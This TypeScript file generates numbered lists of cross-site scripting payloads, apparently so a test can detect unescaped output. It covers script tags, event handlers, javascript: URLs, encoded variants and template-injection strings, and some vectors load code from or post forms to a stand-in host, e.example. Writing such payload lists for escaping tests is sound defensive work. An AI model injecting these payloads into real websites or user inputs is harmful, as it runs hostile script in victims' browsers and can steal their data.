/** Markup that opens a script, a handler, a frame, a form or an address of its own; `N` becomes the payload's number. */
const VECTORS: readonly string[] = [
  '<script>alert(N)</script>',
  '<ScRiPt>alert(N)</sCrIpT>',
  '<script src=//e.example/N></script>',
  '<img src=x onerror=alert(N)>',
  '<img src=`x` onerror=alert(N)>',
  '<svg onload=alert(N)>',
  '<svg/onload=alert(N)//',
  '<body onload=alert(N)>',
  '<iframe src=javascript:alert(N)>',
  '<iframe srcdoc="<svg onload=alert(N)>">',
  '<a href=javascript:alert(N)>x</a>',
  '<a href="jav&#09;ascript:alert(N)">x</a>',
  '<details open ontoggle=alert(N)>',
  '<input autofocus onfocus=alert(N)>',
  '<video src=x onerror=alert(N)>',
  '<object data=javascript:alert(N)>',
  '<embed src=javascript:alert(N)>',
  '<math><a xlink:href=javascript:alert(N)>',
  '<base href=//e.example/N/>',
  '<meta http-equiv=refresh content=0;//N>',
  '<link rel=stylesheet href=//e.example/N>',
  '<style>*{background:url(//e.example/N)}',
  '<form action=//e.example/N><input>',
  '<template><img onerror=alert(N) src>',
  '<noscript><img src=x onerror=alert(N)>',
  '<marquee onstart=alert(N)>',
  '<div style=animation:x onfocus=alert(N)>',
  '<x contenteditable onblur=alert(N)>',
  '<<img src=x onerror=alert(N)//',
  '<img src="x" onerror="alert&#40;N&#41;">',
  '&lt;script&gt;alert(N)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(N)&#62;',
  '\\u003cimg src=x onerror=alert(N)>',
  '%3Cscript%3Ealert(N)%3C/script%3E',
  'javascript:alert(N)',
  'data:text/html,<script>alert(N)</script>',
  '{{constructor.constructor("alert(N)")()}}',
  '${alert(N)}',
  '#{alert(N)}',
  '[x](javascript:alert(N))',
]

/** Endings of the places where a text may be inserted. */
const ENDS: readonly string[] = ['', '">', "'>", '</b>', '-->', ']]>']

/** Texts that become code where they are not escaped; no two are alike, so each can be looked for. */
export const XSS_PAYLOADS: readonly string[] = ENDS.flatMap((end, row) =>
  VECTORS.map((vector, column) => end + vector.replaceAll('N', String(1_000 + row * VECTORS.length + column))),
)

/** The same for places that hold a word and no more. */
export const SHORT_PAYLOADS: readonly string[] = [
  '<svg onload=a()>',
  '"><img src=x>',
  "'-alert(1)-'",
  '<b onclick=a()>x',
  '<script>',
  '${7*7}{{7*7}}',
]
